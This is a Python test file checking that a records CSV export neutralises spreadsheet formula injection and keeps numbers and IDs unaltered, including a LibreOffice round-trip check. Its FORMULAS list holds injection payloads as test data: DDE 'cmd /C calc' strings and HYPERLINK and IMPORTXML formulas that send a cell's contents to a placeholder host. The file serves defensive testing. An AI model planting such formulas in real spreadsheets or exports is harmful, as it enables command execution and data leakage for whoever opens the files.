"""records-excel.csv: nothing is calculated, nothing is altered, numbers stay numbers."""

import csv
import io
import json
import re
import subprocess
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from exchange_schemas.standard import Field
from publisher.formats import excel_csv, json_lines
from tests.publisher.samples import PENALTIES, field, released

TEXT = {"text": field("text", "文本")}
STARTERS = "=+-@＝＋－＠\t\r\n\x00"
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1,"点我")', "@SUM(1+1)", "+1+cmd",
    "-2+3+cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "\t=1+1", "\r=1+1", "\n=1+1",
    "\x00=1+1", " =1+1", "\u3000=1+1", "\u00a0=1+1", "\ufeff=1+1", '"=1+1', "'=1+1", "“=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=1+1;=2+2", "+8613812345678", "--1", "-", "=",
    "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")", "@", "-1,5", "+1 2", "-1250.5元", "\t", "=\t=",
]  # fmt: skip
PLAIN_NUMBERS = ["-1250.5", "1e-7", "0", "12", "-3", "+86", "3.14", "1E+5", "99999999999", "-1e3"]
ALTERED = [
    "914409021949210181", "440900000000008", "066604667", "0668", "123456789012", "12E3",
    "9144090219492101E1", "1-2", "2021-03", "3/4", "00",
]  # fmt: skip
UNTOUCHED = [
    "91440902194921018Q",
    "茂市监罚〔2023〕12号",
    "2021-03-04",
    "1.5.2",
    "A-1",
    "（=1）",
    "",
]


def write(frame: pl.DataFrame, fields: dict[str, Field], path: Path) -> None:
    block = excel_csv.block(frame, fields, json_lines.texts(frame, fields))
    path.write_bytes(excel_csv.head(PENALTIES, fields) + block.data + excel_csv.FOOT)


def written(values: list[str | None], folder: Path) -> list[list[str]]:
    path = folder / "t.csv"
    write(pl.DataFrame({"text": values}, schema={"text": pl.String}), TEXT, path)
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))[1:]


def cells(values: list[str | None], folder: Path) -> list[str]:
    return [row[0] if row else "" for row in written(values, folder)]


@pytest.mark.parametrize("value", FORMULAS)
def test_formulas_get_an_apostrophe(tmp_path: Path, value: str) -> None:
    assert cells([value], tmp_path) == ["'" + value]


def test_plain_numbers_are_left_alone(tmp_path: Path) -> None:
    assert cells([*PLAIN_NUMBERS], tmp_path) == PLAIN_NUMBERS


def test_what_a_spreadsheet_would_alter_gets_a_tab(tmp_path: Path) -> None:
    assert cells([*ALTERED], tmp_path) == [value + "\t" for value in ALTERED]


def test_other_text_is_untouched(tmp_path: Path) -> None:
    assert cells([*UNTOUCHED], tmp_path) == UNTOUCHED


starts = st.sampled_from(["", *STARTERS, " =", "  -", "'+", "0", "12", "1e", "-1"])
values = st.builds(str.__add__, starts, st.text(st.characters(exclude_categories=["Cs"])))


@given(values)
def test_no_cell_starts_a_formula_and_every_value_is_found_again(value: str) -> None:
    frame = pl.DataFrame({"text": [value]})
    cell = frame.select(excel_csv.text_kept(excel_csv.inert(pl.col("text")))).item()
    assert cell in (value, "'" + value, value + "\t")
    if cell[:1] and cell[0] in STARTERS:
        assert NUMBER.fullmatch(cell)
    # The quoting of CSV keeps the cell whole, whatever it holds.
    text = frame.select(pl.lit(cell).alias("c")).write_csv(line_terminator="\r\n")
    assert list(csv.reader(io.StringIO(text, newline="")))[1:] == [[cell] if cell else [""]]


def test_naughty_strings_come_through_whole(shared: Path, tmp_path: Path) -> None:
    naughty = json.loads((shared / "data/naughty-strings/blns.json").read_text(encoding="utf-8"))
    written_cells = cells(naughty, tmp_path)
    assert len(written_cells) == len(naughty) > 500
    for value, cell in zip(naughty, written_cells, strict=True):
        assert cell in (value, "'" + value, value + "\t")
        assert cell[:1] not in STARTERS or not cell or NUMBER.fullmatch(cell)


def test_the_file_as_a_spreadsheet_wants_it(tmp_path: Path) -> None:
    content = (released(tmp_path).path / "records-excel.csv").read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[0][:4] == ["记录标识", "行政相对人名称", "相对人类别", "统一社会信用代码"]
    assert content.count(b"\r\n") == 5
    by_id = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_id["b2"]["违法事实"] == "'=1+1"
    assert by_id["c3"]["统一社会信用代码"] == "914409021949210181\t"
    assert by_id["a1"]["处罚类别"] == "罚款；没收违法所得"
    assert by_id["a1"]["罚款金额"] == "0.500000"
    assert by_id["d4"]["是否复议"] == "是"
    assert by_id["d4"]["份数"] == "-1"
    assert by_id["b2"]["是否复议"] == ""


def test_codes_are_shown_by_their_titles(tmp_path: Path) -> None:
    enum = {"enum": ["1", "2"]}
    fields = {
        "reason": field("reason", "原因", codelist="list_reasons", schema=enum),
        "reasons": field(
            "reasons", "各原因", "list", codelist="list_reasons", schema={"items": enum}
        ),
        "division": field("division", "区划", codelist="divisions"),
    }
    frame = pl.DataFrame(
        {"reason": ["1", "9"], "reasons": [["2", "1"], None], "division": ["440902"] * 2}
    )
    write(frame, fields, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text("utf-8-sig").splitlines()[1:] == [
        "未按期公示年度报告,未按责令的期限公示信息；未按期公示年度报告,440902", "9,,440902",
    ]  # fmt: skip


def test_columns_of_one_title_keep_apart(tmp_path: Path) -> None:
    fields = {"a": field("a", "名称"), "b": field("b", "名称")}
    write(pl.DataFrame({"a": ["1"], "b": ["2"]}), fields, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text("utf-8-sig").splitlines()[0] == "名称（a）,名称（b）"


def test_libreoffice_shows_every_value_and_calculates_nothing(tmp_path: Path) -> None:
    given_values = [v for v in FORMULAS if "\x00" not in v and "\r" not in v] + ALTERED
    cells([*given_values, *PLAIN_NUMBERS], tmp_path)
    settings = "CSV:44,34,76,1,,0,false,true"  # comma, quotes, UTF-8, numbers recognised
    command = ["soffice", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless"]
    convert = ["--convert-to", "xlsx", f"--infilter={settings}", "t.csv"]
    subprocess.run(
        [*command, *convert], cwd=tmp_path, check=True, capture_output=True, timeout=120
    )
    rows = list(openpyxl.load_workbook(tmp_path / "t.xlsx").active.iter_rows())[1:]
    assert {row[0].data_type for row in rows} == {"s", "n"}  # no formula
    texts, numbers = rows[: len(given_values)], rows[len(given_values) :]
    assert [row[0].data_type for row in texts] == ["s"] * len(given_values)
    assert [row[0].value.strip("\t") for row in texts if row[0].value[0] != "'"] == ALTERED
    assert [row[0].value for row in numbers] == [float(value) for value in PLAIN_NUMBERS]
